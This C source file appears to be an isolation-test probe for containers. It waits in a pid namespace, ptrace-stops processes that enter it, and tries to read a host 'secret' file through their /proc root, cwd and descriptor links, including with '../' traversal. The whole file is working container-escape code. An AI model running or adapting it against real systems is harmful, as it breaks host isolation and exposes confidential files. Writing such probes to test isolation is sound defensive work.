// Lies in wait for the processes that others bring into its pid namespace, stops them as early as it can, and looks for
// a file of the host through their root, working directory and descriptors. `peer DIR RESULTS`: the file is DIR/secret;
// RESULTS gets a line for each process that was stopped and for each way the file was read.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

static FILE *results;

static void read_through(const char *path)
{
	char text[256];
	int file = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t length;

	if (file < 0)
		return;
	length = read(file, text, sizeof text - 1);
	close(file);
	if (length > 0)
		fprintf(results, "read %s: %.*s\n", path, (int)length, text);
}

static void look(pid_t pid, const char *dir)
{
	static const char *const links[] = { "root", "cwd" };
	char path[4096], name[256];
	struct dirent *entry;
	DIR *descriptors;

	for (size_t at = 0; at < sizeof links / sizeof *links; at++) {
		snprintf(path, sizeof path, "/proc/%d/%s%s/secret", pid, links[at], dir);
		read_through(path);
		snprintf(path, sizeof path, "/proc/%d/%s/secret", pid, links[at]);
		read_through(path);
		snprintf(path, sizeof path, "/proc/%d/%s/../../../../../../../..%s/secret", pid, links[at], dir);
		read_through(path);
	}
	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	descriptors = opendir(path);
	while (descriptors && (entry = readdir(descriptors))) {
		snprintf(name, sizeof name, "%s", entry->d_name);
		snprintf(path, sizeof path, "/proc/%d/fd/%s/secret", pid, name);
		read_through(path);
		snprintf(path, sizeof path, "/proc/%d/fd/%s/../../../../../../../..%s/secret", pid, name, dir);
		read_through(path);
	}
	if (descriptors)
		closedir(descriptors);
}

// The number given last in this pid namespace, the last word of /proc/loadavg.
static pid_t last(void)
{
	char text[128] = "";
	const char *word;
	int file = open("/proc/loadavg", O_RDONLY | O_CLOEXEC), number = 0;

	if (file >= 0 && read(file, text, sizeof text - 1) > 0 && (word = strrchr(text, ' ')))
		sscanf(word, "%d", &number);
	if (file >= 0)
		close(file);
	return number;
}

int main(int argc, char **argv)
{
	pid_t next = 2;

	if (argc < 3 || !(results = fopen(argv[2], "a")))
		return 1;
	setlinebuf(results);
	for (unsigned long turn = 0;; turn++) {
		for (pid_t pid = next; pid < next + 6; pid++) {
			if (ptrace(PTRACE_SEIZE, pid, 0, 0))
				continue;
			ptrace(PTRACE_INTERRUPT, pid, 0, 0);
			waitpid(pid, NULL, __WALL);
			fprintf(results, "stopped %d\n", pid);
			look(pid, argv[1]);
			ptrace(PTRACE_DETACH, pid, 0, 0);
			next = pid + 1;
			break;
		}
		// Those that were missed are past.
		if (turn % 10000 == 0 && next <= last())
			next = last() + 1;
	}
}
